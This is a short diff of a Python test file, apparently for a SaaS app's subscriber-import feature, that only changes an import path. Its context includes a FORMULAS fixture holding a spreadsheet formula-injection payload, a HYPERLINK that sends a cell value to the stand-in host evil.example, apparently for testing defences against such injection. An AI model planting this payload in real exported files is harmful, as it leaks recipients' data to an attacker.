@@ -12,8 +12,8 @@ from sqlalchemy import select
 from saas.audience.models import Subscriber, SubscriberTag, Tag
 from saas.core.extensions import db
 from saas.core.tenancy import bound_to
+from tests.audience.test_imports import latest_import, readers, upload
 from tests.conftest import login
-from tests.functional.test_imports import latest_import, readers, upload
 
 FORMULAS = {
     "hyperlink@example.com": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
